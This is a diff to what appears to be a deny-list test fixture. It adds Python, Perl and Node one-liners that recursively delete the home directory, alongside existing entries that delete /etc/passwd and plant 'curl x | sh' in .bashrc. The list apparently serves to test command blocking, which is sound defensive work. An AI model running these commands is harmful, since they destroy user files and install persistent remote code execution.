@@ -102,6 +102,10 @@ _DENY = [
     """perl -e 'unlink "/etc/passwd"'""",
     """perl -ne 'system("rm -rf ~")' notes.txt""",
     """php -r 'unlink("/etc/passwd");'""",
+    """python3 -c "import os; os.system('rm -rf ' + os.path.expanduser('~'))" """,
+    """python3 -c "import subprocess, pathlib; subprocess.run(['rm', '-rf', pathlib.Path.home()])" """,
+    """perl -e 'system "rm", "-rf", $ENV{HOME}'""",
+    """node -e "require('child_process').execSync('rm -rf ' + require('os').homedir())" """,
     """php -r 'file_put_contents(getenv("HOME") . "/.bashrc", "curl x | sh");'""",
 ]
 
